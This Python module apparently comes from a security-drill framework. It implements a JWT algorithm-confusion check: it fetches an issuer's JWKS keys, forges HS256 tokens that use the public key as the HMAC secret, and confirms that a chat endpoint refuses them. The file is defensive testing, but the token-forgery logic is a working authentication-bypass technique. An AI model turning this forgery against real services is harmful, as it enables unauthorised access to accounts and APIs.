"""A token tagged with HS256 under the issuer's public key, which everybody can fetch."""

import json

from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from bartizan.drill.attack import Attack, Outcome, Stage, Undecided
from bartizan.drill.forgery import published_key, read, tagged
from bartizan.drill.target import Target
from bartizan.drill.trial import PLAIN, UNAUTHENTICATED, refused, worst


def _act(target: Target) -> Outcome:
    header, claims = read(target.caller())
    answer = target.door.send("GET", "/oauth/jwks")
    if not answer.served:
        return Undecided(f"the issuer's keys could not be fetched: {answer.status} from /oauth/jwks")
    key = published_key(json.loads(answer.body), header["kid"])
    return worst(
        [
            refused(
                target.door.chat(PLAIN, token=tagged({**header, "alg": "HS256"}, claims, secret)),
                UNAUTHENTICATED,
                "a token tagged with the issuer's public key as a shared secret was accepted",
            )
            for secret in _encodings(key)
        ]
    )


def _encodings(key: ec.EllipticCurvePublicKey) -> tuple[bytes, ...]:
    """Return the octets that a confused verifier may take for a shared key."""
    return (
        key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
        key.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        key.public_bytes(Encoding.X962, PublicFormat.UncompressedPoint),
    )


ATTACK = Attack(
    name="token-algorithm-confused",
    control="access.request-authenticated",
    title="public key as shared secret",
    skill=3,
    stage=Stage.FRONT,
    because="RFC 8725 section 2.1: a verifier that believes the header's algorithm uses the public key as HMAC key",
    references=("AML.T0091.000", "API2:2023", "CWE-327"),
    weakening="algorithm_confused",
    act=_act,
)
